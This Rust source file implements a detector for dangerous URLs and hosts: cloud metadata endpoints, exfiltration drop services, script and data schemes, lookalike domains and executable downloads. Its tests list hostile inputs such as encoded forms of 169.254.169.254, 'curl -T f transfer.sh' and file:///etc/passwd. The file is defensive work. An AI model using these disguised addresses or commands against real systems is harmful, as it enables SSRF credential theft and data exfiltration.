//! URLs: those that lead where a program has no business, and those that are not what they seem.
//!
//! A URL is parsed as a browser does (url.spec.whatwg.org), so every way to write an address is the same address.
//! Hosts that matter without a URL around them are found alone, too. The operator's denials beat the allowances, and
//! those beat everything that is guessed here.

mod address;
mod data_uri;
mod domain;
mod hosts;
mod known;
mod port_and_suffix;
mod span;

use std::ops::Range;
use std::sync::LazyLock;

use aho_corasick::{AhoCorasick, AhoCorasickBuilder, AhoCorasickKind, MatchKind};
use url::{Host, Url};

pub(crate) use self::hosts::HostPatternError;
use self::hosts::Hosts;
use self::span::{MAX_HOST, host_around, url_around};
use super::fragment::{Fragment, FragmentKind, Match, Strongest};

/// Category of every match.
const CATEGORY: &str = "url";
/// Longest URL that is parsed; of a longer one the start is.
const MAX_LENGTH: usize = 2048;
/// And of one inside of another, in its query say.
const MAX_NESTED: usize = 256;

/// Judgement of a URL or a host: rule, confidence, reason.
type RuleHit = (&'static str, f64, &'static str);

#[derive(Clone, Copy)]
enum Anchor {
    /// Authority after `://`.
    Authority,
    /// Scheme `javascript:` or `vbscript:`.
    Script,
    /// Scheme `data:` and its content.
    Data,
    Metadata,
    Drop,
    Onion,
}

struct Anchors {
    automaton: AhoCorasick,
    kinds: Vec<Anchor>,
}

static ANCHORS: LazyLock<Anchors> = LazyLock::new(|| {
    let schemes = [
        ("://", Anchor::Authority),
        ("javascript:", Anchor::Script),
        ("vbscript:", Anchor::Script),
        ("data:", Anchor::Data),
    ];
    let metadata = known::METADATA.iter().map(|host| (host.trim_matches(['[', ']']), Anchor::Metadata));
    let drops = known::DROPS.split_whitespace().map(|host| (host, Anchor::Drop));
    let (texts, kinds): (Vec<_>, Vec<_>) =
        schemes.into_iter().chain(metadata).chain(drops).chain([(".onion", Anchor::Onion)]).unzip();
    let automaton = AhoCorasickBuilder::new()
        .ascii_case_insensitive(true)
        .kind(Some(AhoCorasickKind::DFA))
        // One of Google's names begins as another does.
        .match_kind(MatchKind::LeftmostLongest)
        .build(&texts)
        .expect("few short patterns make a small automaton");
    Anchors { automaton, kinds }
});

/// Looks for URLs and hosts.
#[derive(Debug)]
pub struct Urls {
    allow: Hosts,
    deny: Hosts,
}

impl Urls {
    /// Patterns are hosts as `example.com` or `*.example.com`, whose `*` stands for any characters.
    ///
    /// # Errors
    /// Returns an error when a pattern is malformed.
    pub fn new(allow: &[String], deny: &[String]) -> Result<Self, HostPatternError> {
        Ok(Self { allow: Hosts::new(allow)?, deny: Hosts::new(deny)? })
    }

    /// Looks for URLs that lead where a program has no business. A password in a URL is never part of a match.
    pub fn scan(&self, fragment: &Fragment, found: &mut Vec<Match>) {
        if fragment.kind == FragmentKind::Identifier {
            return;
        }
        let text = fragment.text;
        let mut found = Strongest::new(found);
        // Of the last host, and of the URL around it. A URL may have another one in it.
        let (mut end, mut end_of_url) = (0, 0);
        // Whether its host was read: what follows is a path, in which a host is only a word.
        let mut in_path = false;
        for hit in ANCHORS.automaton.find_iter(text) {
            if hit.start() < end {
                continue;
            }
            let at = hit.range();
            let nested = at.start < end_of_url;
            match ANCHORS.kinds[hit.pattern()] {
                Anchor::Authority => {
                    let longest = if nested { MAX_NESTED } else { MAX_LENGTH };
                    let Some(range) = url_around(text, at.clone(), end, longest) else { continue };
                    end_of_url = end_of_url.max(range.end);
                    let after = authority(&text[at.end..range.end]).len();
                    in_path = self.in_url(text, range, &mut found);
                    end = if in_path { at.end + after } else { at.end };
                }
                Anchor::Script => push(data_uri::script(text, at, end), &mut found),
                Anchor::Data => push(data_uri::data(text, at, end), &mut found),
                Anchor::Drop | Anchor::Onion if nested && in_path => {}
                Anchor::Metadata | Anchor::Drop | Anchor::Onion => {
                    if let Some(range) = host_around(text, at, end) {
                        end = range.end;
                        self.in_host(fragment, range, &mut found);
                    }
                }
            }
        }
        if end == 0
            && let FragmentKind::Literal | FragmentKind::Folded = fragment.kind
        {
            self.alone(text, &mut found);
        }
    }

    /// The URL at `range`. Whether its host could be read.
    fn in_url(&self, text: &str, range: Range<usize>, found: &mut Strongest) -> bool {
        let written = &text[range.clone()];
        let Some((scheme, after)) = written.split_once("://") else { return false };
        let of_scheme = port_and_suffix::of_scheme(&scheme.to_ascii_lowercase());
        let (userinfo, host_as_written) = authority(after).rsplit_once('@').unwrap_or(("", authority(after)));
        // What stands before the host may be a password.
        let start = if userinfo.is_empty() { range.start } else { range.end - after.len() + userinfo.len() + 1 };
        if start == range.end {
            return false;
        }
        let shown = start..range.end;
        let name = without_port(host_as_written);
        let is_template = ["{", "}", "$", "*", "%s", "%d", "%("].iter().any(|template| name.contains(template));
        let host = if is_template { None } else { Host::parse(name).ok() };
        let Some(host) = host else {
            push(of_scheme.map(|hit| (shown, hit)), found);
            return false;
        };
        let hit = match self.listed(&host) {
            Some(listed) => listed,
            None if domain::leads_nowhere(&host) => of_scheme,
            None => {
                // The port may be a template, or none.
                let url = Url::parse(written).ok();
                strongest([
                    of_host(&host, name),
                    of_scheme,
                    domain::disguised_host(userinfo),
                    url.as_ref().and_then(|url| port_and_suffix::executable(url, &host)),
                    url.as_ref().and_then(|url| port_and_suffix::odd_port(url, &host)),
                ])
            }
        };
        push(hit.map(|hit| (shown, hit)), found);
        true
    }

    /// The host at `range`, which stands alone in the text.
    fn in_host(&self, fragment: &Fragment, range: Range<usize>, found: &mut Strongest) {
        let Ok(host) = Host::parse(&in_brackets(&fragment.text[range.clone()])) else { return };
        let hit = match self.listed(&host) {
            Some(listed) => listed,
            None => of_host(&host, &fragment.text[range.clone()]).map(|(rule, confidence, reason)| {
                // Somebody writes about it.
                let factor = if fragment.kind == FragmentKind::Comment { 0.5 } else { 1.0 };
                let factor = if rule == "metadata_host" { factor } else { factor * 0.8 };
                (rule, confidence * factor, reason)
            }),
        };
        push(hit.map(|hit| (range, hit)), found);
    }

    /// A literal that is a host, perhaps with a port, and nothing else.
    fn alone(&self, text: &str, found: &mut Strongest) {
        let of_host = |b: u8| b.is_ascii_alphanumeric() || b"-._:[]".contains(&b) || !b.is_ascii();
        if text.len() > MAX_HOST || text.len() < 4 || !text.bytes().all(of_host) {
            return;
        }
        let name = without_port(text);
        let digits = name.bytes().all(|b| b.is_ascii_digit());
        let is_address = digits || name.bytes().all(|b| b.is_ascii_hexdigit() || b".:[]xX".contains(&b));
        if !is_address && (!name.contains('.') || self.deny.is_empty()) {
            return;
        }
        let Ok(host) = Host::parse(&in_brackets(name)) else { return };
        let range = 0..name.len();
        let hit = match (self.listed(&host), &host) {
            (Some(listed), _) => listed,
            (None, Host::Domain(_)) => None,
            (None, Host::Ipv4(_) | Host::Ipv6(_)) => {
                let hit = self::of_host(&host, name);
                match hit {
                    Some(("metadata_host", ..)) => hit,
                    // Any number is an address to a browser; a version has dots as well.
                    Some((_, _, reason)) if name.matches('.').count() == 3 || name.contains(':') => {
                        Some(("address", 0.3, reason))
                    }
                    Some(_) | None => None,
                }
            }
        };
        push(hit.map(|hit| (range, hit)), found);
    }

    /// Looks `host` up in the lists: `None` when no list has it, otherwise the list's judgement.
    fn listed(&self, host: &Host) -> Option<Option<RuleHit>> {
        if self.deny.contain(host) {
            return Some(Some(("denied_host", 1.0, "The operator denies this host.")));
        }
        self.allow.contain(host).then_some(None)
    }
}

fn push(hit: Option<(Range<usize>, RuleHit)>, found: &mut Strongest) {
    if let Some((range, (rule, confidence, reason))) = hit {
        found.push(Match { rule: rule.into(), category: CATEGORY.into(), range, confidence, reason: reason.into() });
    }
}

fn strongest(hit: impl IntoIterator<Item = Option<RuleHit>>) -> Option<RuleHit> {
    hit.into_iter().flatten().max_by(|(_, a, _), (_, b, _)| a.total_cmp(b))
}

/// An IPv6 address stands in brackets in a URL.
fn in_brackets(host: &str) -> String {
    if host.contains(':') && !host.starts_with('[') { format!("[{host}]") } else { host.to_owned() }
}

/// `after` the `://`, up to the path.
fn authority(after: &str) -> &str {
    &after[..after.find(['/', '?', '#', '\\']).unwrap_or(after.len())]
}

/// The port may be a template. The colons of an address without brackets belong to it.
fn without_port(host: &str) -> &str {
    match host.rsplit_once(':') {
        Some((name, _)) if !name.contains(':') || name.ends_with(']') => name,
        Some(_) | None => host,
    }
}

/// Judges a host; `written` is its spelling in the program.
fn of_host(host: &Host, written: &str) -> Option<RuleHit> {
    let name = host.to_string();
    let name = name.strip_suffix('.').unwrap_or(&name);
    if domain::METADATA.contains(name) {
        return Some(("metadata_host", 0.95, "Clouds give credentials away at this host."));
    }
    match host {
        Host::Ipv4(address) => address::v4(*address, written),
        Host::Ipv6(address) => address::v6(*address),
        Host::Domain(_) => domain::of_domain(name, written),
    }
}

#[cfg(test)]
mod tests {
    use super::super::fragment::tests::{check, comment, literal, random_texts, takes_linear_time};
    use super::*;

    fn of(urls: &Urls, fragment: &Fragment) -> Vec<(String, String, f64)> {
        let mut found = Vec::new();
        urls.scan(fragment, &mut found);
        check(fragment.text, &found);
        found
            .into_iter()
            .map(|one| {
                (one.rule.into_owned(), fragment.text[one.range].to_owned(), (one.confidence * 100.0).round() / 100.0)
            })
            .collect()
    }

    fn lists(allow: &[&str], deny: &[&str]) -> Urls {
        let owned = |list: &[&str]| list.iter().map(|host| (*host).to_owned()).collect::<Vec<_>>();
        Urls::new(&owned(allow), &owned(deny)).expect("the patterns are fine")
    }

    fn found(text: &str) -> Vec<(String, String, f64)> {
        of(&lists(&[], &[]), &literal(text))
    }

    /// Rule and confidence of the one match in `text`.
    fn one(text: &str) -> (String, f64) {
        let found = found(text);
        assert_eq!(found.len(), 1, "{text}: {found:?}");
        (found[0].0.clone(), found[0].2)
    }

    #[test]
    fn ordinary_urls_are_fine() {
        for text in [
            "https://docs.python.org/3/library/re.html#re.compile",
            "http://www.google.com",
            "See https://github.com/a/b.",
            "https://example.com:9999/a.exe",
            "http://api.example.org/v1?q=1",
            "https://host.test/x",
            "http://192.0.2.1/a",
            "http://{host}:{port}/api",
            "https://%s/%s",
            "https://bücher.example/",
            "mailto:a@b.org",
            "https://",
            "https://www.kaggle.com/data.zip",
            "a://b",
            "://",
            "http://[2001:db8::1]/",
            "https://en.wikipedia.org/wiki/A_(b)",
            "https://user@github.com/a/b.git",
            "postgresql://user@host.corp/db",
            "1:2",
            "12:30:00",
        ] {
            assert_eq!(found(text), [], "{text}");
        }
    }

    #[test]
    fn schemes_that_do_harm_are_found() {
        for (text, rule, least) in [
            ("javascript:alert(1)", "dangerous_scheme", 0.8),
            ("JavaScript:fetch('//x')", "dangerous_scheme", 0.8),
            ("vbscript:msgbox(1)", "dangerous_scheme", 0.8),
            ("data:text/html;base64,PHNjcmlwdD4=", "dangerous_scheme", 0.7),
            ("data:text/html,<script>", "dangerous_scheme", 0.7),
            ("gopher://host.corp:70/_x", "dangerous_scheme", 0.9),
            ("dict://host.corp:11211/stat", "dangerous_scheme", 0.85),
            ("ldap://host.corp/cn=a", "dangerous_scheme", 0.6),
            ("file:///etc/passwd", "file_url", 0.6),
            ("ftp://ftp.host.corp/a", "ftp_url", 0.3),
        ] {
            let found = one(text);
            assert!(found.0 == rule && found.1 >= least, "{text}: {found:?}");
        }
        for text in [
            "JavaScript: the good parts",
            "javascript:void(0)",
            "data:image/png;base64,iVBOR",
            "data: {a}",
            "metadata:text/html,",
        ] {
            assert_eq!(found(text), [], "{text}");
        }
    }

    #[test]
    fn metadata_is_found_however_it_is_written() {
        for text in [
            "http://169.254.169.254/latest/meta-data/",
            "http://2852039166/",
            "http://0xA9FEA9FE/",
            "http://0251.0376.0251.0376/",
            "http://169.254.43518/",
            "http://[::ffff:169.254.169.254]/",
            "http://[fd00:ec2::254]/latest",
            "http://metadata.google.internal/computeMetadata/v1/",
            "http://METADATA.google.internal./",
            "http://100.100.100.200/",
            "169.254.169.254",
            "curl 169.254.169.254/latest",
            "metadata.google.internal",
            "fd00:ec2::254",
            "169.254.169.254:80",
            "0xA9FEA9FE",
            "2852039166",
            "http://%31%36%39.254.169.254/",
            "http://[64:ff9b::a9fe:a9fe]/",
            "http://169.254.169.254",
            "http://①⑥⑨.254.169.254/",
            "http://169.254.169.254:{port}/",
            "http://169.254.169.254:99999/",
            "http://{user}:{word}@169.254.169.254/",
        ] {
            let found = one(text);
            let known = ["metadata_host", "disguised_address"].contains(&found.0.as_str());
            assert!(known && found.1 >= 0.9, "{text}: {found:?}");
        }
        for text in
            ["1169.254.169.254", "169.254.169.2540", "169.254.169.254.1.2", "2852039165", "xmetadata.google.internal"]
        {
            assert!(found(text).iter().all(|one| one.2 < 0.5), "{text}: {:?}", found(text));
        }
        assert!(of(&lists(&[], &[]), &comment("# not 169.254.169.254"))[0].2 < 0.5);
    }

    #[test]
    fn addresses_are_told_by_where_they_lead() {
        for (text, expected) in [
            ("http://8.8.8.8/", ("address", 0.5)),
            ("http://10.1.2.3:8080/", ("private_address", 0.5)),
            ("http://192.168.0.1", ("private_address", 0.5)),
            ("http://169.254.1.1/", ("link_local_address", 0.7)),
            ("http://127.0.0.1:5000/", ("local_host", 0.2)),
            ("http://localhost:8000/", ("local_host", 0.2)),
            ("http://0.0.0.0/", ("local_host", 0.2)),
            ("http://[::1]:80/", ("local_host", 0.2)),
            ("http://[fe80::1]/", ("link_local_address", 0.7)),
            ("http://[fd12::1]/", ("private_address", 0.5)),
            ("http://[2a00:1450::1]/", ("address", 0.5)),
            ("http://[::ffff:10.0.0.1]/", ("private_address", 0.7)),
            ("http://017700000001/", ("disguised_address", 0.9)),
            ("http://2130706433/", ("disguised_address", 0.9)),
            ("http://127.1/", ("disguised_address", 0.9)),
            ("192.168.0.1", ("address", 0.3)),
            ("8.8.8.8:53", ("address", 0.3)),
        ] {
            assert_eq!(one(text), (expected.0.to_owned(), expected.1), "{text}");
        }
        for text in ["1.2.3", "3.14", "1234567", "0x7f", "::", "a.b.c.d", "[1]", "dead.beef", "1:2:3"] {
            assert_eq!(found(text), [], "{text}");
        }
    }

    #[test]
    fn hosts_that_are_used_for_harm_are_found() {
        for (text, rule, least) in [
            ("https://webhook.site/0b1", "drop_host", 0.8),
            ("https://abc.ngrok-free.app/x", "drop_host", 0.8),
            ("http://x1.oast.fun/?d=", "drop_host", 0.8),
            ("https://%s.webhook.site/", "drop_host", 0.6),
            ("curl -T f transfer.sh", "drop_host", 0.6),
            ("abc.interact.sh", "drop_host", 0.6),
            ("https://pastebin.com/raw/x", "drop_host", 0.8),
            ("https://bit.ly/3xyz", "shortened_url", 0.6),
            ("http://10.0.0.1.nip.io/", "wildcard_dns", 0.7),
            ("http://ipfs.io/ipfs/Qm", "gateway_host", 0.5),
            ("http://facebookwkhpilnemxj7asaniu7vnjjbiltxjqhye3mhbshg7kx5tfyd.onion/", "onion_host", 0.8),
            ("facebookwkhpilnemxj7asaniu7vnjjbiltxjqhye3mhbshg7kx5tfyd.onion", "onion_host", 0.6),
            ("http://45.9.148.3/x.sh", "executable_download", 0.9),
            ("https://host.corp/setup.exe", "executable_download", 0.5),
            ("https://host.corp:4444/", "odd_port", 0.3),
        ] {
            let found = one(text);
            assert!(found.0 == rule && found.1 >= least, "{text}: {found:?}");
        }
        for text in [
            "mywebhook.site",
            "webhook.sites",
            "file.iota",
            "https://notbit.ly/x",
            "x.onion",
            "a profile.io_text",
            "transfer.sh.py",
        ] {
            assert_eq!(found(text), [], "{text}");
        }
    }

    #[test]
    fn hosts_that_are_not_what_they_seem_are_found() {
        for text in [
            "https://paypa1.com/login",
            "https://www.аррӏе.com/",
            "https://gооgle.com/",
            "https://g00gle.com",
            "http://xn--80ak6aa92e.com/",
        ] {
            assert_eq!(one(text), ("lookalike_host".to_owned(), 0.9), "{text}");
        }
        assert_eq!(one("https://github.com@evil.corp/x").0, "disguised_host");
        assert_eq!(one("https://xn--bcher-kva.de/").0, "punycode_host");
        assert!(one("https://bücher.de/").1 < 0.5);
    }

    #[test]
    fn a_url_inside_of_a_url_is_one() {
        let found = found("https://host.corp/go?to=http://169.254.169.254/latest");
        assert_eq!(found, [("metadata_host".to_owned(), "http://169.254.169.254/latest".to_owned(), 0.95)]);
    }

    #[test]
    fn a_password_is_no_part_of_a_match() {
        let found = found("see http://admin:s3cret@10.0.0.5/x, and");
        assert_eq!(found, [("private_address".to_owned(), "10.0.0.5/x".to_owned(), 0.5)]);
    }

    #[test]
    fn a_match_is_the_url_without_what_is_around_it() {
        for (text, url) in [
            ("(see http://8.8.8.8/a.)", "http://8.8.8.8/a"),
            ("<a href='http://8.8.8.8/b'>", "http://8.8.8.8/b"),
            ("[x](http://8.8.8.8/c)", "http://8.8.8.8/c"),
            ("é http://8.8.8.8/é ü", "http://8.8.8.8/é"),
        ] {
            assert_eq!(found(text)[0].1, url, "{text}");
        }
    }

    #[test]
    fn denials_beat_allowances_and_those_beat_guesses() {
        let urls = lists(&["*.corp", "10.*", "webhook.site", "169.254.169.254"], &["evil.corp", "*.bad.test"]);
        let of = |text: &str| of(&urls, &literal(text)).into_iter().map(|one| (one.0, one.2)).next();
        let denied = Some(("denied_host".to_owned(), 1.0));
        for text in ["https://evil.corp/", "https://a.bad.test", "evil.corp", "x.bad.test:443", "ftp://evil.corp/"] {
            assert_eq!(of(text), denied, "{text}");
        }
        for text in [
            "http://10.1.2.3/x.sh",
            "https://webhook.site/a",
            "http://169.254.169.254/",
            "gopher://good.corp/",
            "webhook.site",
        ] {
            assert_eq!(of(text), None, "{text}");
        }
        assert_ne!(of("http://11.1.2.3/"), None);
    }

    #[test]
    fn any_text_is_no_problem() {
        let pieces = [
            "http",
            "://",
            "169.254.169.254",
            ".",
            "é",
            "😀",
            "@",
            ":",
            "[",
            "]",
            "::",
            "ngrok.io",
            "%",
            "/",
            "javascript:",
            "data:",
            "text/html",
            ",",
            ".onion",
            " ",
            "xn--",
            "-",
            "0x7f",
            "\\",
            "\n",
            "a",
            "1",
            "?",
            "#",
        ];
        let urls = lists(&["*.a"], &["b.*"]);
        for text in random_texts(&pieces, 5000) {
            of(&urls, &literal(&text));
        }
    }

    #[test]
    fn time_is_linear() {
        let urls = lists(&[], &["*.corp"]);
        let texts = [
            "://",
            "a://",
            "http://a",
            "http://8.8.8.8/ ",
            "javascript:",
            "data:text/html,",
            ".onion",
            "a.",
            "ngrok.io ",
            "😀",
            "a",
        ];
        takes_linear_time(&texts, |text| {
            of(&urls, &literal(text));
        });
    }
}
